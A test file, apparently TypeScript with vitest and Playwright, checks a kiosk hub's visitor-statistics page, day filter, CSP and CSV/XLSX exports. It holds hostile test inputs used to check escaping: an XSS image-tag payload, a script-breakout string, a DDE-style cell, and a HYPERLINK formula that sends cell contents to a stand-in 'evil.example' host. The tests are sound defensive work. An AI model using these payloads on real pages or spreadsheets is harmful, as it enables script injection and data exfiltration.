// The organizers' usage statistics on the hub, over real HTTP: counts pushed as 'usage' mutations by two enrolled
// kiosks, then the staff page (per local hour in the forum's time zone, per kiosk, top lists, content gaps), its day
// filter, and the CSV and XLSX exports read back with csv-parse and exceljs — with visitors' search terms kept as
// text everywhere (escaped on the page, never a formula in a spreadsheet). A real Chromium checks that the charts draw
// under the page's strict CSP.
import { randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { chromium } from '@playwright/test';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterEach, describe, expect, it } from 'vitest';
import { latestSchemaVersion } from '../../db/connection';
import { enrollResponse, pushResponse } from '../../electron/shared/sync-protocol';
import { staffAddCommand } from '../../hub/staff/commands';
import { escapeHtml } from '../../hub/staff/html';
import { staffCsp } from '../../hub/staff/routes';
import { exportHeader, neutraliseCell, xlsxText } from '../../hub/staff/usage-export';
import { chartSpecs, hoursWithGaps, scriptJson } from '../../hub/staff/usage-page';
import { chartLibraryFile, usageCsp } from '../../hub/staff/usage-routes';
import { isCalendarDay, localDayBounds, localHour, usageExportRows, usageSummary } from '../../hub/usage';
import { cleanUp, startHub, type TestHub } from '../sync/harness';
import { Browser as StaffBrowser, type Page } from './staff-login';

afterEach(cleanUp);

const password = 'correct horse battery staple';
const chromiumPath = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';

// ---- a browser over fetch (staff-login.ts), logged in as the staff member of these tests ---------------------------

class Browser extends StaffBrowser {
  override async logIn(): Promise<Page> {
    const answer = await super.logIn('anna', password);
    expect(answer.status).toBe(303);
    return answer;
  }
}

// ---- kiosks pushing usage counts over HTTP ----------------------------------------------------------------------

/** [UTC hour 'YYYY-MM-DDTHH', metric, subject, count], as a kiosk sends them. */
type Count = [string, string, string, number];

const kioskHeaders = (token?: string): Record<string, string> => ({
  'content-type': 'application/json',
  'kiosk-protocol': '1',
  'kiosk-schema': String(latestSchemaVersion),
  ...(token ? { authorization: `Bearer ${token}` } : {}),
});

type Kiosk = { id: string; name: string; token: string; nextOrder: number; sent: Count[] };

async function enroll(hub: TestHub, name: string): Promise<Kiosk> {
  const id = randomUUID();
  const response = await fetch(`${hub.url}/sync/v1/enroll`, { method: 'POST', headers: kioskHeaders(), body: JSON.stringify({ code: await hub.enrollCode(), kioskId: id, name }) });
  const body = enrollResponse.parse(await response.json());
  return { id, name, token: body.token, nextOrder: body.nextOrder, sent: [] };
}

/** One 'usage' mutation, as the kiosk's outbox sends a batch; the hub must apply it. */
async function pushCounts(hub: TestHub, kiosk: Kiosk, counts: Count[]): Promise<void> {
  const mutation = { id: randomUUID(), order: kiosk.nextOrder++, kind: 'usage', payload: { counts } };
  const response = await fetch(`${hub.url}/sync/v1/push`, { method: 'POST', headers: kioskHeaders(kiosk.token), body: JSON.stringify({ mutations: [mutation] }) });
  const answer = pushResponse.parse(await response.json());
  expect(answer.results.map((r) => r.status)).toEqual(['applied']);
  kiosk.sent.push(...counts);
}

// ---- the forum's clock, worked out without Intl: Asia/Omsk is UTC+6 all year -------------------------------------

const omsk = (hour: string): { day: string; hour: number } => {
  const local = new Date(Date.parse(`${hour}:00:00Z`) + 6 * 3_600_000).toISOString();
  return { day: local.slice(0, 10), hour: Number(local.slice(11, 13)) };
};

const hostile = '<img src=x onerror=alert(1)>';
const formulaTerm = '=hyperlink("http://evil.example/?"&a1,"x")';
const phoneTerm = '+7 (#) #-#';
const excelEscapeTerm = '_x0041_ склад';

type Catalog = { regions: { id: string; name: string }[]; projects: { id: string; name: string }[]; clusters: { id: string; name: string }[]; stops: { id: string; name: string }[] };

async function catalog(hub: TestHub): Promise<Catalog> {
  const list = async (table: 'regions' | 'projects' | 'clusters' | 'route_stops', column: string) =>
    (await hub.store.listRecords(table)).slice(0, 3).map((r) => ({ id: String(r.row?.id), name: String(r.row?.[column]) }));
  return { regions: await list('regions', 'name_ru'), projects: await list('projects', 'title_ru'), clusters: await list('clusters', 'name_ru'), stops: await list('route_stops', 'title_ru') };
}

type World = { hub: TestHub; browser: Browser; a: Kiosk; b: Kiosk; cat: Catalog };

/**
 * Two kiosks' counts around the forum days (3 and 4 December 2026, Asia/Omsk): UTC 2026-12-03T18 is already 4 December
 * at 00:00 in Omsk, and UTC 2026-12-02T17 is 2 December, a day before the forum.
 */
async function world(): Promise<World> {
  const hub = await startHub({ demo: { projects: 100 } });
  await staffAddCommand(hub.store, 'anna', password, hub.clock.now);
  const cat = await catalog(hub);
  const [p1, p2] = cat.projects;
  const [r1, r2] = cat.regions;
  const a = await enroll(hub, 'Вход / Entrance');
  const b = await enroll(hub, '<b>Зал Б</b>');
  await pushCounts(hub, a, [
    ['2026-12-03T04', 'session', '', 5],
    ['2026-12-03T05', 'session', '', 3],
    ['2026-12-03T07', 'session', '', 2],
    ['2026-12-03T18', 'session', '', 4],
    ['2026-12-03T04', 'project', p1!.id, 7],
    ['2026-12-03T05', 'project', p2!.id, 2],
    ['2026-12-03T04', 'region', r1!.id, 4],
    ['2026-12-03T04', 'search', 'сыроварня', 3],
    ['2026-12-03T04', 'search_empty', 'сыроварня', 3],
    ['2026-12-03T05', 'search', hostile, 1],
    ['2026-12-03T05', 'search_empty', hostile, 1],
    ['2026-12-03T05', 'search', formulaTerm, 2],
    ['2026-12-03T05', 'search_empty', formulaTerm, 2],
    ['2026-12-03T05', 'search', phoneTerm, 1],
    ['2026-12-03T05', 'qr', p1!.id, 3],
    ['2026-12-03T05', 'language', 'en', 2],
    ['2026-12-03T05', 'accessibility', 'large_text', 1],
    ['2026-12-03T05', 'session_length', '1m_3m', 6],
    ['2026-12-03T05', 'session_length', 'under_30s', 4],
    ['2026-12-03T05', 'screen', 'regions', 9],
  ]);
  // A second batch from the same kiosk adds to the same hour.
  await pushCounts(hub, a, [
    ['2026-12-03T04', 'session', '', 1],
    ['2026-12-03T04', 'project', p1!.id, 1],
  ]);
  await pushCounts(hub, b, [
    ['2026-12-03T04', 'session', '', 2],
    ['2026-12-04T03', 'session', '', 7],
    ['2026-12-03T23', 'session', '', 1],
    ['2026-12-02T17', 'session', '', 1],
    ['2026-12-04T03', 'project', p2!.id, 9],
    ['2026-12-04T03', 'region', r2!.id, 6],
    ['2026-12-04T03', 'cluster', cat.clusters[0]!.id, 5],
    ['2026-12-04T03', 'route_stop', cat.stops[0]!.id, 2],
    ['2026-12-04T03', 'search', 'сыроварня', 1],
    ['2026-12-04T03', 'search_empty', 'сыроварня', 1],
    ['2026-12-04T03', 'search_empty', excelEscapeTerm, 1],
    ['2026-12-04T03', 'language', 'ru', 1],
    ['2026-12-04T03', 'accessibility', 'high_contrast', 2],
    ['2026-12-04T03', 'session_length', 'over_10m', 1],
  ]);
  const browser = new Browser(hub);
  await browser.logIn();
  return { hub, browser, a, b, cat };
}

/** What the exports must hold: the pushed counts per local day, hour, kiosk, metric and subject, added up. */
function expectedRows(kiosks: Kiosk[], day?: string): string[] {
  const totals = new Map<string, number>();
  for (const kiosk of kiosks) {
    for (const [hour, metric, subject, count] of kiosk.sent) {
      const local = omsk(hour);
      if (day && local.day !== day) continue;
      const key = JSON.stringify([local.day, local.hour, kiosk.id, kiosk.name, metric, subject]);
      totals.set(key, (totals.get(key) ?? 0) + count);
    }
  }
  return [...totals].map(([key, count]) => JSON.stringify([...(JSON.parse(key) as unknown[]), count])).sort();
}

/** A spreadsheet must show these as text: the same rule, written out independently of the code under test. */
const shownAsText = (text: string): string => (/^[=+\-@]/.test(text) ? `'${text}` : text);
const unshown = (text: string): string => (/^'[=+\-@]/.test(text) ? text.slice(1) : text);

// ---- reading the page --------------------------------------------------------------------------------------------

const decode = (markup: string): string =>
  markup
    .replace(/<[^>]*>/g, '')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&#39;/g, "'")
    .replace(/&amp;/g, '&')
    .replace(/\u00a0/g, ' ')
    .trim();

function section(page: string, id: string): string {
  const found = new RegExp(`<section id="${id}"[^>]*>([\\s\\S]*?)</section>`).exec(page);
  if (!found?.[1]) throw new Error(`no section ${id} on the page`);
  return found[1];
}

/** The body rows of the tables in a fragment, as decoded cell texts. */
function rows(fragment: string): string[][] {
  const bodies = [...fragment.matchAll(/<tbody>([\s\S]*?)<\/tbody>/g)].map((m) => m[1] ?? '').join('');
  return [...bodies.matchAll(/<tr>([\s\S]*?)<\/tr>/g)].map((row) => [...(row[1] ?? '').matchAll(/<td[^>]*>([\s\S]*?)<\/td>/g)].map((cell) => decode(cell[1] ?? '')));
}

type Figures = { charts: { id: string; kind: string; labels: string[]; values: number[] }[] };

function figuresOf(page: string): Figures {
  const block = /<script type="application\/json" id="usage-figures">([\s\S]*?)<\/script>/.exec(page)?.[1];
  if (block === undefined) throw new Error('no figures block');
  // Nothing in the block can close it or open markup.
  expect(block).not.toMatch(/[<>]/);
  return JSON.parse(block) as Figures;
}

// ---- the tests -------------------------------------------------------------------------------------------------------

describe('usage page', () => {
  it('needs a staff session, like the other staff pages, and so do the exports; the navigation links to it', async () => {
    const { hub, browser } = await world();
    const stranger = new Browser(hub);
    for (const path of ['/staff/usage', '/staff/usage?day=2026-12-03', '/staff/usage.csv', '/staff/usage.xlsx?day=2026-12-04']) {
      const answer = await stranger.get(path);
      expect([path, answer.status, answer.location]).toEqual([path, 303, '/staff/login?m=session_ended']);
      expect(answer.text).not.toContain('сыроварня');
    }
    // A forged or stale session cookie is no better.
    stranger.cookies.set('staff_session', 'A'.repeat(43));
    expect((await stranger.get('/staff/usage.csv')).status).toBe(303);

    const reviews = await browser.get('/staff/reviews');
    expect(reviews.text).toContain('<a href="/staff/usage">Статистика / Usage</a>');
    const page = await browser.get('/staff/usage');
    expect(page.status).toBe(200);
    expect(page.text).toContain('Статистика посещений / Visitor statistics');
    expect(page.headers.get('cache-control')).toBe('no-store');
  });

  it('shows visits per local hour (Asia/Omsk) with quiet hours as zero, per kiosk, and the totals', async () => {
    const { browser, a, b } = await world();
    const page = (await browser.get('/staff/usage')).text;

    // Every pushed session, added up per Omsk hour by the test's own clock arithmetic.
    const perHour = new Map<string, number>();
    for (const kiosk of [a, b]) {
      for (const [hour, metric, , count] of kiosk.sent) {
        if (metric !== 'session') continue;
        const local = omsk(hour);
        const key = `${local.day.slice(8, 10)}.${local.day.slice(5, 7)}.${local.day.slice(0, 4)} ${String(local.hour).padStart(2, '0')}`;
        perHour.set(key, (perHour.get(key) ?? 0) + count);
      }
    }
    const table = rows(section(page, 'hours'));
    const shown = new Map(table.map(([day, hours, visits]) => [`${day} ${hours?.slice(0, 2)}`, Number(visits)]));
    for (const [key, visits] of perHour) expect([key, shown.get(key)]).toEqual([key, visits]);
    // The rest are the quiet hours inside a day, shown as zero.
    expect([...shown].filter(([key]) => !perHour.has(key)).every(([, visits]) => visits === 0)).toBe(true);
    expect(table).toContainEqual(['03.12.2026', '10:00–11:00', '8']);
    expect(table).toContainEqual(['03.12.2026', '12:00–13:00', '0']);
    expect(table).toContainEqual(['04.12.2026', '00:00–01:00', '4']);
    expect(table).toContainEqual(['02.12.2026', '23:00–00:00', '1']);
    expect(table.filter(([day]) => day === '03.12.2026').map(([, hour]) => hour)).toEqual(['10:00–11:00', '11:00–12:00', '12:00–13:00', '13:00–14:00']);

    expect(rows(section(page, 'kiosks'))).toEqual([
      [`Вход / Entrance ${a.id.slice(0, 8)}`, '15'],
      [`<b>Зал Б</b> ${b.id.slice(0, 8)}`, '11'],
    ]);
    expect(decode(/<dd id="total-sessions">([^<]*)<\/dd>/.exec(page)?.[1] ?? '')).toBe('26');
    expect(decode(/<dd id="total-searches">([^<]*)<\/dd>/.exec(page)?.[1] ?? '')).toBe('8');
    expect(decode(/<dd id="total-empty-searches">([^<]*)<\/dd>/.exec(page)?.[1] ?? '')).toBe('8');
    expect(decode(/<dd id="total-qr">([^<]*)<\/dd>/.exec(page)?.[1] ?? '')).toBe('3');

    // The charts get the very same numbers as the tables.
    const charts = figuresOf(page).charts;
    const hours = charts.find((c) => c.id === 'hours');
    expect(hours?.values).toEqual(table.map(([, , visits]) => Number(visits)));
    expect(hours?.labels[0]).toBe('02.12 23:00');
    expect(charts.find((c) => c.id === 'kiosks')).toMatchObject({ kind: 'columns', labels: ['Вход / Entrance', '<b>Зал Б</b>'], values: [15, 11] });
  });

  it('lists the top regions, projects, clusters and route stops with names, QR codes, searches, content gaps, languages, modes and visit lengths', async () => {
    const { browser, cat } = await world();
    const page = (await browser.get('/staff/usage')).text;
    const [p1, p2] = cat.projects;
    const [r1, r2] = cat.regions;
    expect(rows(section(page, 'top-projects'))).toEqual([
      ['1', `${p2!.name} ${p2!.id}`, '11'],
      ['2', `${p1!.name} ${p1!.id}`, '8'],
    ]);
    expect(rows(section(page, 'top-regions'))).toEqual([
      ['1', `${r2!.name} ${r2!.id}`, '6'],
      ['2', `${r1!.name} ${r1!.id}`, '4'],
    ]);
    expect(rows(section(page, 'top-clusters'))).toEqual([['1', `${cat.clusters[0]!.name} ${cat.clusters[0]!.id}`, '5']]);
    expect(rows(section(page, 'top-route-stops'))).toEqual([['1', `${cat.stops[0]!.name} ${cat.stops[0]!.id}`, '2']]);
    expect(rows(section(page, 'qr'))).toEqual([['1', `${p1!.name} ${p1!.id}`, '3']]);
    expect(rows(section(page, 'empty-searches'))).toEqual([
      ['сыроварня', '4'],
      [formulaTerm, '2'],
      [hostile, '1'],
      [excelEscapeTerm, '1'],
    ]);
    expect(rows(section(page, 'searches'))).toEqual([
      ['сыроварня', '4'],
      [formulaTerm, '2'],
      [phoneTerm, '1'],
      [hostile, '1'],
    ]);
    expect(rows(section(page, 'languages'))).toEqual([
      ['английский / English', '2'],
      ['русский / Russian', '1'],
      ['Высокий контраст / High contrast', '2'],
      ['Крупный текст / Larger text', '1'],
    ]);
    // Visit lengths in their own order, shortest first, not by count.
    expect(rows(section(page, 'lengths'))).toEqual([
      ['до 30 с / under 30 s', '4'],
      ['1–3 мин / 1–3 min', '6'],
      ['больше 10 мин / over 10 min', '1'],
    ]);
    const charts = figuresOf(page).charts;
    expect(charts.find((c) => c.id === 'projects')).toEqual({ id: 'projects', kind: 'bars', title: 'Проекты / Projects', labels: [p2!.name, p1!.name], values: [11, 8] });
    expect(charts.map((c) => c.id)).toEqual(['hours', 'kiosks', 'regions', 'projects', 'clusters', 'route-stops', 'qr', 'lengths']);
  });

  it('shows a hostile search term and kiosk name as text only, and loads only the hub\u2019s own scripts under a strict CSP', async () => {
    const { browser } = await world();
    const answer = await browser.get('/staff/usage');
    const page = answer.text;
    expect(page).toContain(escapeHtml(hostile));
    expect(page).toContain(escapeHtml('<b>Зал Б</b>'));
    expect(page).not.toContain('<img');
    expect(page).not.toContain('<b>');
    // Only two scripts, both files of the hub, and the data block, which browsers do not run.
    expect([...page.matchAll(/<script\b[^>]*>/g)].map((m) => m[0])).toEqual([
      '<script type="application/json" id="usage-figures">',
      '<script src="/staff/vendor/chart.umd.min.js" defer>',
      '<script src="/staff/usage-charts.js" defer>',
    ]);
    // The block carries the raw name back to the script, escaped only for the HTML parser.
    expect(figuresOf(page).charts.find((c) => c.id === 'kiosks')?.labels).toContain('<b>Зал Б</b>');

    const csp = answer.headers.get('content-security-policy') ?? '';
    expect(csp).toBe(usageCsp);
    expect(csp).toContain("script-src 'self'");
    expect(csp).toContain("default-src 'none'");
    expect(csp).not.toMatch(/unsafe-inline|unsafe-eval|https?:|\*/);
    // The other staff pages keep the policy without any script.
    expect((await browser.get('/staff/reviews')).headers.get('content-security-policy')).toBe(staffCsp);

    const library = await browser.get('/staff/vendor/chart.umd.min.js');
    expect(library.status).toBe(200);
    expect(library.headers.get('content-type')).toMatch(/^text\/javascript/);
    expect(library.body.equals(readFileSync(chartLibraryFile()))).toBe(true);
    expect(library.text.slice(0, 200)).toMatch(/Chart\.js v4\./);
    const script = await browser.get('/staff/usage-charts.js');
    expect(script.status).toBe(200);
    expect(script.headers.get('content-type')).toMatch(/^text\/javascript/);
    expect(script.text).toContain("getElementById('usage-figures')");
    expect(script.text).not.toMatch(/\beval\(|new Function|innerHTML/);
  });

  it('the day filter shows one forum day (local midnight to midnight), and offers the forum days and other counted days', async () => {
    const { browser, a, b } = await world();
    const all = (await browser.get('/staff/usage')).text;
    const options = [...all.matchAll(/<option value="([^"]*)"( selected)?>([^<]*)<\/option>/g)].map((m) => [m[1], Boolean(m[2]), m[3]]);
    expect(options).toEqual([
      ['', true, 'Все дни / All days'],
      ['2026-12-02', false, '02.12.2026'],
      ['2026-12-03', false, '03.12.2026 — день форума / forum day'],
      ['2026-12-04', false, '04.12.2026 — день форума / forum day'],
    ]);

    const third = (await browser.get('/staff/usage?day=2026-12-03')).text;
    expect(third).toContain('<option value="2026-12-03" selected>');
    expect(rows(section(third, 'hours'))).toEqual([
      ['03.12.2026', '10:00–11:00', '8'],
      ['03.12.2026', '11:00–12:00', '3'],
      ['03.12.2026', '12:00–13:00', '0'],
      ['03.12.2026', '13:00–14:00', '2'],
    ]);
    expect(rows(section(third, 'kiosks'))).toEqual([
      [`Вход / Entrance ${a.id.slice(0, 8)}`, '11'],
      [`<b>Зал Б</b> ${b.id.slice(0, 8)}`, '2'],
    ]);
    expect(figuresOf(third).charts.find((c) => c.id === 'hours')?.labels).toEqual(['10:00', '11:00', '12:00', '13:00']);
    // Content gaps of that day only: the Б kiosk's searches were on the 4th.
    expect(rows(section(third, 'empty-searches'))).toEqual([
      ['сыроварня', '3'],
      [formulaTerm, '2'],
      [hostile, '1'],
    ]);
    expect(third).toContain('href="/staff/usage.csv?day=2026-12-03"');

    // UTC 18:00 on the 3rd is midnight of the 4th in Omsk.
    const fourth = (await browser.get('/staff/usage?day=2026-12-04')).text;
    expect(rows(section(fourth, 'hours'))[0]).toEqual(['04.12.2026', '00:00–01:00', '4']);
    expect(rows(section(fourth, 'kiosks')).map((r) => r[1])).toEqual(['8', '4']);
    expect(decode(/<dd id="total-sessions">([^<]*)<\/dd>/.exec(fourth)?.[1] ?? '')).toBe('12');

    const empty = (await browser.get('/staff/usage?day=2026-12-10')).text;
    expect(decode(/<dd id="total-sessions">([^<]*)<\/dd>/.exec(empty)?.[1] ?? '')).toBe('0');
    expect(section(empty, 'hours')).toContain('Нет данных / No data');
    expect(figuresOf(empty).charts).toEqual([]);

    expect((await browser.get('/staff/usage?day=all')).text).toContain('<option value="" selected>');
    for (const bad of ['2026-02-30', '2026-12-3', '%3Cscript%3E', '2026-12-03T00']) {
      const answer = await browser.get(`/staff/usage?day=${bad}`);
      expect([bad, answer.status]).toEqual([bad, 400]);
      expect(answer.text).not.toContain('<script');
    }
    expect((await browser.get('/staff/usage.csv?day=2026-13-01')).status).toBe(400);
  });
});

describe('usage exports', () => {
  it('CSV: UTF-8 with a BOM, a header, and exactly the pushed counts per local day, hour and kiosk; formulas neutralised', async () => {
    const { browser, a, b } = await world();
    const answer = await browser.get('/staff/usage.csv');
    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(answer.headers.get('content-disposition')).toBe('attachment; filename="usage-all.csv"');
    expect([...answer.body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);

    const records = parse(answer.body, { bom: true, delimiter: ';' });
    expect(records[0]).toEqual(exportHeader('Asia/Omsk'));
    const body = records.slice(1);
    const got = body.map(([day, hour, id, name, metric, subject, , count]) => JSON.stringify([day, Number(hour), id, name, metric, unshown(subject!), Number(count)])).sort();
    expect(got).toEqual(expectedRows([a, b]));

    // Visitors' text that a spreadsheet would run starts with an apostrophe; everything else is as sent.
    const subjects = body.map((r) => r[5]);
    expect(subjects).toContain(shownAsText(formulaTerm));
    expect(subjects).toContain(`'${phoneTerm}`);
    expect(subjects).toContain(hostile);
    expect(subjects).toContain(excelEscapeTerm);
    expect(subjects.some((s) => /^[=+\-@]/.test(s ?? ''))).toBe(false);
    // Catalog names for the items counted by id; none for the rest.
    const project = body.find((r) => r[4] === 'project');
    expect(project?.[6]).not.toBe('');
    expect(body.find((r) => r[4] === 'session')?.[6]).toBe('');
    // Rows in order of day and hour.
    const order = body.map((r) => `${r[0]} ${r[1]!.padStart(2, '0')}`);
    expect(order).toEqual([...order].sort());

    const third = await browser.get('/staff/usage.csv?day=2026-12-03');
    expect(third.headers.get('content-disposition')).toBe('attachment; filename="usage-2026-12-03.csv"');
    const thirdRows = parse(third.body, { bom: true, delimiter: ';' }).slice(1);
    expect(thirdRows.map(([day, hour, id, name, metric, subject, , count]) => JSON.stringify([day, Number(hour), id, name, metric, unshown(subject!), Number(count)])).sort()).toEqual(
      expectedRows([a, b], '2026-12-03'),
    );
  });

  it('XLSX: opens in exceljs with text and number cells only, exactly the pushed counts, formulas neutralised', async () => {
    const { browser, a, b } = await world();
    const answer = await browser.get('/staff/usage.xlsx');
    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(answer.headers.get('content-disposition')).toBe('attachment; filename="usage-all.xlsx"');

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(answer.body as unknown as ArrayBuffer);
    expect(workbook.worksheets).toHaveLength(1);
    const sheet = workbook.worksheets[0]!;
    const table: (string | number)[][] = [];
    sheet.eachRow((row) => {
      const cells: (string | number)[] = [];
      for (let column = 1; column <= 8; column++) {
        const cell = row.getCell(column);
        // Never a formula, a date or a rich text: plain strings and numbers (an empty string reads back as no value).
        expect([ExcelJS.ValueType.String, ExcelJS.ValueType.Number, ExcelJS.ValueType.Null]).toContain(cell.type);
        cells.push(cell.type === ExcelJS.ValueType.Null ? '' : (cell.value as string | number));
      }
      table.push(cells);
    });
    expect(table[0]).toEqual(exportHeader('Asia/Omsk'));
    const body = table.slice(1);
    for (const row of body) {
      expect(typeof row[1]).toBe('number');
      expect(typeof row[7]).toBe('number');
    }
    const got = body.map(([day, hour, id, name, metric, subject, , count]) => JSON.stringify([day, hour, id, name, metric, unshown(String(subject)), count])).sort();
    expect(got).toEqual(expectedRows([a, b]));
    const subjects = body.map((r) => r[5]);
    expect(subjects).toContain(shownAsText(formulaTerm));
    // Text that looks like Excel's _xHHHH_ escape reads back as typed.
    expect(subjects).toContain(excelEscapeTerm);

    const fourth = await browser.get('/staff/usage.xlsx?day=2026-12-04');
    const fourthBook = new ExcelJS.Workbook();
    await fourthBook.xlsx.load(fourth.body as unknown as ArrayBuffer);
    const fourthRows: string[] = [];
    fourthBook.worksheets[0]!.eachRow((row, n) => {
      if (n === 1) return;
      const v = (c: number) => row.getCell(c).value ?? '';
      fourthRows.push(JSON.stringify([v(1), v(2), v(3), v(4), v(5), unshown(v(6) as string), v(8)]));
    });
    expect(fourthRows.sort()).toEqual(expectedRows([a, b], '2026-12-04'));
  });

  it('adds up two UTC hours that fall in one local hour when the clocks go back (Europe/Berlin, 25 October 2026)', async () => {
    const hub = await startHub({ demo: { projects: 100 } });
    const [forum] = await hub.store.listRecords('forum');
    await hub.store.writeRecords([{ table: 'forum', key: forum!.key, row: { ...forum!.row, timezone: 'Europe/Berlin' } }], hub.clock.now);
    const kiosk = await enroll(hub, 'Berlin');
    // 00:00 UTC is 02:00 summer time, 01:00 UTC is 02:00 winter time, 02:00 UTC is 03:00.
    await pushCounts(hub, kiosk, [
      ['2026-10-25T00', 'session', '', 2],
      ['2026-10-25T01', 'session', '', 3],
      ['2026-10-25T02', 'session', '', 1],
    ]);
    const { timeZone, rows: exported } = await usageExportRows(hub.store, localDayBounds('2026-10-25', 'Europe/Berlin'));
    expect(timeZone).toBe('Europe/Berlin');
    expect(exported.map((r) => [r.day, r.hour, r.count])).toEqual([
      ['2026-10-25', 2, 5],
      ['2026-10-25', 3, 1],
    ]);
    const summary = await usageSummary(hub.store, localDayBounds('2026-10-25', 'Europe/Berlin'));
    expect(summary.sessionsByHour).toEqual([
      { day: '2026-10-25', hour: 2, sessions: 5 },
      { day: '2026-10-25', hour: 3, sessions: 1 },
    ]);
  });
});

describe('usage building blocks', () => {
  it('a local day is the UTC hours that begin in it, in any zone', () => {
    expect(localDayBounds('2026-12-03', 'Asia/Omsk')).toEqual({ fromHour: '2026-12-02T18', toHour: '2026-12-03T18' });
    expect(localDayBounds('2026-12-03', 'UTC')).toEqual({ fromHour: '2026-12-03T00', toHour: '2026-12-04T00' });
    expect(localDayBounds('2026-12-03', 'America/Anchorage')).toEqual({ fromHour: '2026-12-03T09', toHour: '2026-12-04T09' });
    // Half-hour offset: 18:00 UTC is 23:30 on the 2nd, 19:00 UTC is 00:30 on the 3rd.
    expect(localDayBounds('2026-12-03', 'Asia/Kolkata')).toEqual({ fromHour: '2026-12-02T19', toHour: '2026-12-03T19' });
    // The day the clocks go back has 25 hours.
    expect(localDayBounds('2026-10-25', 'Europe/Berlin')).toEqual({ fromHour: '2026-10-24T22', toHour: '2026-10-25T23' });
    // Samoa skipped 30 December 2011.
    const skipped = localDayBounds('2011-12-30', 'Pacific/Apia');
    expect(skipped.fromHour).toBe(skipped.toHour);
    // Consistent with localHour for every hour around a day.
    for (const zone of ['Asia/Omsk', 'Asia/Kolkata', 'Europe/Berlin', 'Pacific/Kiritimati', 'Etc/GMT+12']) {
      const { fromHour, toHour } = localDayBounds('2026-10-25', zone);
      for (let at = Date.parse('2026-10-23T00:00:00Z'); at < Date.parse('2026-10-28T00:00:00Z'); at += 3_600_000) {
        const key = new Date(at).toISOString().slice(0, 13);
        expect([zone, key, localHour(key, zone).day === '2026-10-25']).toEqual([zone, key, key >= fromHour && key < toHour]);
      }
    }
    expect(isCalendarDay('2026-12-03')).toBe(true);
    expect(isCalendarDay('2026-02-29')).toBe(false);
    expect(isCalendarDay('2028-02-29')).toBe(true);
    expect(isCalendarDay('2026-12-3')).toBe(false);
    expect(isCalendarDay('2026-13-01')).toBe(false);
  });

  it('cells that a spreadsheet would run as formulas are neutralised; XLSX text survives Excel\u2019s escapes', () => {
    for (const text of ['=1+1', '+7 #', '-2', '@SUM(A1)', ' =cmd|x', '\t=1', '\r=1']) expect([text, neutraliseCell(text)]).toEqual([text, `'${text}`]);
    for (const text of ['сыроварня', 'a=b', "'quoted", '', '7-8']) expect(neutraliseCell(text)).toBe(text);
    expect(xlsxText('_x0041_')).toBe('_x005F_x0041_');
    expect(xlsxText('a\u0001b\ud800c')).toBe('a\uFFFDb\uFFFDc');
    expect(xlsxText('😀 ок')).toBe('😀 ок');
  });

  it('JSON for the page\u2019s data block cannot end the element, and parses back to the same value', () => {
    const value = { label: '</script><script>alert(1)</script><!-- & \u2028' };
    const json = scriptJson(value).markup;
    expect(json).not.toMatch(/[<>&\u2028]/);
    expect(JSON.parse(json)).toEqual(value);
  });

  it('charts: hours inside a day filled with zeros, none across days; empty lists give no chart', () => {
    expect(
      hoursWithGaps([
        { day: '2026-12-03', hour: 9, sessions: 1 },
        { day: '2026-12-03', hour: 12, sessions: 2 },
        { day: '2026-12-04', hour: 10, sessions: 3 },
      ]),
    ).toEqual([
      { day: '2026-12-03', hour: 9, sessions: 1 },
      { day: '2026-12-03', hour: 10, sessions: 0 },
      { day: '2026-12-03', hour: 11, sessions: 0 },
      { day: '2026-12-03', hour: 12, sessions: 2 },
      { day: '2026-12-04', hour: 10, sessions: 3 },
    ]);
    const empty = { region: [], project: [], cluster: [], route_stop: [] };
    expect(
      chartSpecs(
        {
          timeZone: 'UTC',
          totals: { sessions: 0, searches: 0, emptySearches: 0, qrShown: 0 },
          sessionsByHour: [],
          sessionsByKiosk: [],
          top: empty,
          emptySearches: [],
          searches: [],
          languages: [],
          accessibility: [],
          sessionLengths: [],
          qrShown: [],
        },
        false,
      ),
    ).toEqual([]);
  });
});

/** The little of the page's world the browser test touches (the Node project's types have no DOM). */
type Canvas = {
  id: string;
  width: number;
  height: number;
  getContext(kind: '2d'): { getImageData(x: number, y: number, width: number, height: number): { data: ArrayLike<number> } };
  getBoundingClientRect(): { height: number };
};
type InPage = {
  document: { querySelectorAll(selector: string): Iterable<Canvas> & { length: number } };
  Chart: { getChart(canvas: Canvas): { data: { datasets: { data: number[] }[] } } | undefined };
};

describe('usage charts in a browser', () => {
  it('Chart.js and the page script draw every chart under the strict CSP, with no violation and no error', async () => {
    const { hub } = await world();
    const browser = await chromium.launch({ executablePath: chromiumPath, args: ['--no-sandbox', '--disable-gpu'] });
    try {
      const page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
      const problems: string[] = [];
      // Failed loads are reported with their address below; the browser's own favicon request is not the page's.
      page.on('console', (message) => {
        if ((message.type() === 'error' && !message.text().startsWith('Failed to load resource')) || /Content.Security.Policy/i.test(message.text())) problems.push(message.text());
      });
      page.on('response', (response) => {
        if (response.status() >= 400 && new URL(response.url()).pathname !== '/favicon.ico') problems.push(`${response.status()} ${response.url()}`);
      });
      page.on('pageerror', (error) => problems.push(error.message));
      await page.goto(`${hub.url}/staff/login`);
      await page.fill('input[name="login"]', 'anna');
      await page.fill('input[name="password"]', password);
      await Promise.all([page.waitForURL('**/staff/kiosks'), page.click('button[type="submit"]')]);
      await page.click('a[href="/staff/usage"]');
      await page.waitForURL('**/staff/usage');
      await page.waitForFunction(() => (globalThis as unknown as InPage).document.querySelectorAll('figure.chart:not([hidden])').length === 8, undefined, { timeout: 10_000 });

      // Each chart holds the figures of its table, and has actually painted its canvas.
      const drawn = await page.evaluate(() => {
        const { document, Chart } = globalThis as unknown as InPage;
        return [...document.querySelectorAll('figure.chart canvas')].map((canvas) => {
          const chart = Chart.getChart(canvas);
          const pixels = canvas.getContext('2d').getImageData(0, 0, canvas.width, canvas.height).data;
          let painted = 0;
          for (let i = 3; i < pixels.length; i += 4) if (pixels[i]! > 0) painted++;
          return { id: canvas.id, values: chart?.data.datasets[0]?.data ?? null, painted, height: canvas.getBoundingClientRect().height };
        });
      });
